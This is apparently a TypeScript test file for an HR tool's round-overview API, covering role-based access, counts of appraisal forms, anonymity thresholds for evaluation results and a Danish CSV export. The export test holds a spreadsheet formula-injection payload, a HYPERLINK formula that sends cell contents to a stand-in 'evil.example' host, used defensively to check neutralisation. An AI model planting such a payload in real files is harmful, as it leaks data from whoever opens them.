import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import sinon from 'sinon';
import { EVALUATION_STATEMENTS, type EvaluationAnswer } from '../../../bot/mus/evaluation.js';
import { summariseEvaluation } from '../../../bot/mus/evaluation-results.js';
import { finalise, newSkema, SKEMA_STATUSES, type Skema } from '../../../bot/mus/skema.js';
import type { RoundOverview } from '../../../bot/overview/round-overview.js';
import { acknowledgeSkema } from '../../../bot/skema/acknowledge-skema.js';
import { finaliseSkema } from '../../../bot/skema/finalise-skema.js';
import { saveAnswers } from '../../../bot/skema/save-answers.js';
import { startTalk } from '../../../bot/skema/start-talk.js';
import {
  EMPLOYEE,
  HR,
  LEADER,
  ORG,
  startOverviewTestApp,
  TOP_LEADER,
  type OverviewTestApp,
} from './overview-test-app.js';

const DAY_MS = 86_400_000;

function overviewPath(roundId: string, csv = false): string {
  return `/api/rounds/${encodeURIComponent(roundId)}/overview${csv ? '.csv' : ''}`;
}

/** What the overview must say, counted the slow way: every skema of the round, read in full. */
async function countedFromSkemas(
  app: OverviewTestApp,
  roundId: string,
): Promise<{ departments: Map<string, number[]>; leaders: Map<string, number[]> }> {
  const skemas = await app.storage.repositories.skemas.listByRound(ORG, roundId);
  const departments = new Map<string, number[]>();
  const leaders = new Map<string, number[]>();
  const add = (map: Map<string, number[]>, key: string, skema: Skema): void => {
    const counts = map.get(key) ?? SKEMA_STATUSES.map(() => 0);
    counts[SKEMA_STATUSES.indexOf(skema.status)]! += 1;
    map.set(key, counts);
  };
  for (const skema of skemas) {
    add(departments, skema.department ?? '', skema);
    add(leaders, skema.leaderEmail, skema);
  }
  return { departments, leaders };
}

function asCounts(overview: RoundOverview): {
  departments: Map<string, number[]>;
  leaders: Map<string, number[]>;
} {
  return {
    departments: new Map(
      overview.departments.map((d) => [d.department, SKEMA_STATUSES.map((s) => d.byStatus[s])]),
    ),
    leaders: new Map(
      overview.leaders.map((l) => [l.leaderEmail, SKEMA_STATUSES.map((s) => l.byStatus[s])]),
    ),
  };
}

function answer(
  roundId: string,
  department: string,
  score: number,
  comment?: string,
): EvaluationAnswer {
  return {
    orgId: ORG,
    roundId,
    id: 'ignored',
    respondentRole: 'employee',
    department,
    scores: Object.fromEntries(EVALUATION_STATEMENTS.map((s) => [s.id, score])),
    ...(comment ? { comment } : {}),
  };
}

let answered = 0;
/** Stores an answer as the table would get it from the card action, under a made-up receipt. */
async function addAnswer(app: OverviewTestApp, a: EvaluationAnswer): Promise<void> {
  answered += 1;
  await app.storage.repositories.evaluations.submit(
    { orgId: ORG, roundId: a.roundId, personEmail: `svar${answered}@vandvaerk.example` },
    a,
  );
}

describe('HR’s overview of a round', function () {
  this.timeout(60_000);
  let app: OverviewTestApp;
  let roundId: string;

  before(async () => {
    app = await startOverviewTestApp();
    roundId = (await app.roundThrough('MUS 2026', 3)).value.id;
  });
  after(async () => app.close());

  it('is for HR only: an employee and a leader get 403, no token 401, HR 200', async () => {
    for (const path of [overviewPath(roundId), overviewPath(roundId, true)]) {
      assert.equal((await app.get(path, EMPLOYEE)).status, 403, `${path} as employee`);
      assert.equal((await app.get(path, LEADER)).status, 403, `${path} as leader`);
      assert.equal((await app.get(path, TOP_LEADER)).status, 403, `${path} as top leader`);
      assert.equal((await app.get(path)).status, 401, `${path} without a token`);
      assert.equal((await app.get(path, HR)).status, 200, `${path} as HR`);
    }
    const refused = await app.get(overviewPath(roundId), LEADER);
    assert.deepEqual((refused.body as { error: { message: unknown } }).error.message, {
      da: 'Kun HR kan se overblikket over runden.',
      en: 'Only HR can see the overview of the round.',
    });
  });

  it('answers 404 for a round that does not exist and 400 for a malformed round id', async () => {
    assert.equal((await app.get(overviewPath('findes-ikke'), HR)).status, 404);
    assert.equal((await app.get(overviewPath('%2E%2E'), HR)).status, 400);
  });

  it('counts every step’s cards from the outbox', async () => {
    const { body } = await app.get(overviewPath(roundId), HR);
    const overview = body as RoundOverview;
    const pending = overview.steps.map((s) => s.deliveries.pending);
    // 3 leaders in step 1; 28 employees with a leader in steps 2 and 3; steps 4 and 5 not launched.
    assert.deepEqual(pending, [3, 28, 28, 0, 0]);
    assert.equal(overview.steps[3]!.launchedAt, null);
    assert.deepEqual(overview.steps[0]!.name, { da: 'Informér lederne', en: 'Inform the leaders' });

    const claimed = await app.storage.deliveries.claimDue('test', app.clock.now, 60_000, 1000);
    const step1 = claimed.filter((d) => d.value.step === 1);
    const outcomes = ['sent', 'failed', 'not-installed'] as const;
    await Promise.all(
      step1.map((d, i) =>
        app.storage.deliveries.save({ ...d.value, status: outcomes[i]! }, d.etag),
      ),
    );
    const after = (await app.get(overviewPath(roundId), HR)).body as RoundOverview;
    assert.deepEqual(after.steps[0]!.deliveries, {
      sent: 1,
      failed: 1,
      waiting: 0,
      notInstalled: 1,
      pending: 0,
    });
  });

  it('shows every skema as sent, per department and per leader, right after step 3', async () => {
    const overview = (await app.get(overviewPath(roundId), HR)).body as RoundOverview;
    assert.equal(overview.skemas.total, 28);
    assert.equal(overview.skemas.byStatus.sent, 28);
    assert.deepEqual(
      overview.departments.map((d) => [d.department, d.total]),
      [
        ['Drift', 8],
        ['HR', 1],
        ['Kundeservice', 9],
        ['Udvikling', 10],
      ],
    );
    assert.deepEqual(asCounts(overview), await countedFromSkemas(app, roundId));
  });

  it('keeps the counts right through submit, start, finalise and acknowledge', async () => {
    const { skemaServices: services } = app;
    const employee = await app.person(EMPLOYEE);
    const leader = await app.person(LEADER);
    const ref = { roundId, employeeEmail: EMPLOYEE };
    const etagOf = async (email = EMPLOYEE): Promise<string> =>
      (await app.storage.repositories.skemas.get(ORG, roundId, email))!.etag;

    await saveAnswers(services, employee, ref, {
      answers: { kerneopgaven: 'Et hemmeligt svar om kerneopgaven' },
      submit: true,
      etag: await etagOf(),
    });
    let overview = (await app.get(overviewPath(roundId), HR)).body as RoundOverview;
    assert.equal(overview.skemas.byStatus.prepared, 1);
    assert.deepEqual(asCounts(overview), await countedFromSkemas(app, roundId));

    await startTalk(services, leader, ref, { etag: await etagOf() });
    await startTalk(
      services,
      leader,
      { roundId, employeeEmail: 'lars.christensen@vandvaerk.example' },
      {
        etag: await etagOf('lars.christensen@vandvaerk.example'),
      },
    );
    overview = (await app.get(overviewPath(roundId), HR)).body as RoundOverview;
    assert.equal(overview.skemas.byStatus.held, 2);
    assert.deepEqual(asCounts(overview), await countedFromSkemas(app, roundId));

    await finaliseSkema(services, leader, ref, { etag: await etagOf() });
    await acknowledgeSkema(services, employee, ref, { etag: await etagOf(), comment: 'Tak' });
    overview = (await app.get(overviewPath(roundId), HR)).body as RoundOverview;
    assert.deepEqual(overview.skemas.byStatus, {
      sent: 26,
      prepared: 0,
      held: 1,
      finalised: 0,
      acknowledged: 1,
    });
    assert.deepEqual(asCounts(overview), await countedFromSkemas(app, roundId));
    const soren = overview.leaders.find((l) => l.leaderEmail === LEADER)!;
    assert.deepEqual(soren.departments, ['Kundeservice']);
    assert.equal(soren.byStatus.acknowledged, 1);
    assert.equal(soren.notHeld, 6);
  });

  it('never shows what is written in a skema', async () => {
    const { text } = await app.get(overviewPath(roundId), HR);
    assert.doesNotMatch(text, /hemmeligt svar/i);
    const csv = await app.get(overviewPath(roundId, true), HR);
    assert.doesNotMatch(csv.text, /hemmeligt svar/i);
  });

  it('marks leaders overdue once the step-4 deadline has passed and some of their talks are not held', async () => {
    const { skemas } = app.storage.repositories;
    // Anja holds and finalises all her talks; Søren and Mette do not.
    for (const s of await skemas.listByLeader(ORG, roundId, 'anja.holm@vandvaerk.example')) {
      await skemas.update(
        finalise(s.value, { by: s.value.leaderEmail, now: app.clock.now }),
        s.etag,
      );
    }
    let overview = (await app.get(overviewPath(roundId), HR)).body as RoundOverview;
    assert.equal(overview.overdueLeaders, 0, 'nobody is late before the deadline');

    const round = (await app.storage.repositories.rounds.get(ORG, roundId))!.value;
    const talksDeadline = round.steps[3]!.deadline;
    app.clock.now = new Date(new Date(`${talksDeadline}T12:00:00Z`).getTime() + DAY_MS);
    try {
      overview = (await app.get(overviewPath(roundId), HR)).body as RoundOverview;
    } finally {
      app.clock.now = new Date('2026-03-02T09:00:00Z');
    }
    assert.equal(overview.overdueLeaders, 2);
    assert.deepEqual(
      overview.leaders.map((l) => [l.leaderEmail, l.overdue]),
      [
        [TOP_LEADER, true],
        [LEADER, true],
        ['anja.holm@vandvaerk.example', false],
      ],
      'overdue leaders come first',
    );
  });
});

describe('the evaluation results in HR’s overview', function () {
  this.timeout(60_000);
  let app: OverviewTestApp;
  let roundId: string;

  const afterDeadline = async (): Promise<void> => {
    const round = (await app.storage.repositories.rounds.get(ORG, roundId))!.value;
    app.clock.now = new Date(new Date(`${round.steps[4]!.deadline}T12:00:00Z`).getTime() + DAY_MS);
  };
  const overview = async (): Promise<RoundOverview> =>
    (await app.get(overviewPath(roundId), HR)).body as RoundOverview;

  before(async () => {
    app = await startOverviewTestApp();
    roundId = (await app.roundThrough('MUS evaluering', 5)).value.id;
    for (let i = 0; i < 6; i++)
      await addAnswer(app, answer(roundId, 'Drift', 4, `Drift siger ${i}`));
    for (let i = 0; i < 4; i++) {
      await addAnswer(app, answer(roundId, 'Udvikling', 2, `Udvikling siger ${i}`));
    }
  });
  after(async () => app.close());

  it('shows only the number of answers while the evaluation is open', async () => {
    const result = await overview();
    assert.equal(result.evaluation.answers, 10);
    assert.equal(result.evaluation.resultsAvailable, false);
    assert.deepEqual(result.evaluation.groups, []);
    assert.match(result.evaluation.withheld[0]!.da, /frist er overskredet/);
  });

  it('hides a department with 4 answers, and does not let the others give it away', async () => {
    await afterDeadline();
    const result = await overview();
    assert.equal(result.evaluation.resultsAvailable, true);
    const kinds = result.evaluation.groups.map((g) => g.kind);
    assert.deepEqual(
      kinds,
      ['all', 'employees'],
      'Drift alone would reveal Udvikling by subtraction',
    );
    const all = result.evaluation.groups[0]!;
    assert.equal(all.answers, 10);
    assert.equal(all.statements[0]!.average, 3.2);
    assert.deepEqual(all.statements[0]!.distribution, [0, 4, 0, 6, 0]);
    assert.equal(all.comments.length, 10, 'a group of ten shows its comments');
    assert.ok(result.evaluation.withheld.length > 0, 'HR is told something is held back');
  });

  it('shows the department, with its comments, once it has 5 answers', async () => {
    await addAnswer(app, answer(roundId, 'Udvikling', 1, 'Udvikling siger 4'));
    const result = await overview();
    const udvikling = result.evaluation.groups.find((g) => g.department === 'Udvikling');
    assert.ok(udvikling, 'Udvikling is shown');
    assert.equal(udvikling.answers, 5);
    assert.deepEqual(udvikling.statements[1]!.distribution, [1, 4, 0, 0, 0]);
    assert.equal(udvikling.statements[1]!.average, 1.8);
    assert.deepEqual(
      udvikling.comments,
      [0, 1, 2, 3, 4].map((i) => `Udvikling siger ${i}`),
    );
    assert.ok(result.evaluation.groups.find((g) => g.department === 'Drift'));
  });

  it('merges small departments into "Øvrige" when together they reach 5 answers', async () => {
    for (const department of ['HR', 'Kundeservice', 'Kundeservice', 'Lager', 'Lager']) {
      await addAnswer(app, answer(roundId, department, 5, `${department} mener`));
    }
    const result = await overview();
    const others = result.evaluation.groups.find((g) => g.kind === 'others');
    assert.ok(others, 'the merged group is shown');
    assert.deepEqual(others.label, { da: 'Øvrige', en: 'Others' });
    assert.deepEqual(others.departments, ['HR', 'Kundeservice', 'Lager']);
    assert.equal(others.answers, 5);
    assert.equal(others.comments.length, 5);
    assert.equal(result.evaluation.groups.filter((g) => g.kind === 'department').length, 2);
  });

  it('computes the closed evaluation’s results once, and again only when an answer is added', async () => {
    const { evaluations } = app.storage.repositories;
    const reads = sinon.spy(evaluations, 'listAnswers');
    try {
      const first = await overview();
      // The same as summarising every stored answer afresh, the way it was done before.
      const fresh = summariseEvaluation(await evaluations.listAnswers(ORG, roundId));
      reads.resetHistory();
      assert.deepEqual(first.evaluation.groups, fresh.groups);
      assert.deepEqual(first.evaluation.withheld, fresh.withheld);
      assert.equal(first.evaluation.answers, fresh.answers);
      for (let i = 0; i < 3; i++)
        assert.deepEqual(await overview(), { ...first, generatedAt: app.clock.now.toISOString() });
      assert.equal(reads.callCount, 0, 'page views after the first read no answers');

      // An answer whose submit passed the window check just before the close lands after it.
      await addAnswer(app, answer(roundId, 'Drift', 1, 'Sent men med'));
      const later = await overview();
      assert.equal(reads.callCount, 1);
      assert.equal(later.evaluation.answers, first.evaluation.answers + 1);
      assert.deepEqual(
        later.evaluation.groups,
        summariseEvaluation(await evaluations.listAnswers(ORG, roundId)).groups,
      );
    } finally {
      reads.restore();
    }
  });

  it('exports a CSV for Danish Excel with every formula-like cell neutralised', async () => {
    // A department and comments an attacker could choose, in the skemas and in the evaluation.
    const evil = '=HYPERLINK("http://evil.example/?x="&A1;"Klik")';
    await app.storage.repositories.skemas.createIfAbsent(
      newSkema({
        orgId: ORG,
        roundId,
        employeeEmail: 'ny.medarbejder@vandvaerk.example',
        leaderEmail: 'anja.holm@vandvaerk.example',
        department: evil,
        template: (await app.storage.repositories.rounds.get(ORG, roundId))!.value.template,
        now: app.clock.now,
        by: HR,
      }),
    );
    for (const comment of ['+45 ringer', '-2+3', '@SUM(A1:A2)', '=1+1', '-']) {
      await addAnswer(app, answer(roundId, evil, 3, comment));
    }
    const res = await app.get(overviewPath(roundId, true), HR);
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(
      res.headers.get('content-disposition') ?? '',
      /attachment; filename="mus-overblik-/,
    );
    assert.ok(res.text.startsWith('\uFEFF'), 'starts with a byte-order mark');
    assert.ok(res.text.includes('\r\n'), 'CRLF line ends');
    const rows = parse(res.text, {
      delimiter: ';',
      bom: true,
      relax_column_count: true,
    });
    const cells = rows.flat();
    const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    assert.deepEqual(dangerous, [], 'no cell starts like a formula');
    assert.ok(cells.includes(`'${evil}`), 'the department is kept, as text');
    for (const comment of ['+45 ringer', '-2+3', '@SUM(A1:A2)', '=1+1', '-']) {
      assert.ok(cells.includes(`'${comment}`), `comment ${JSON.stringify(comment)} is neutralised`);
    }
    assert.ok(cells.includes('Afdeling / Department'), 'headings in Danish and English');
    assert.ok(
      cells.some((c) => /^\d,\d\d$/.test(c)),
      'averages with a decimal comma',
    );
  });
});
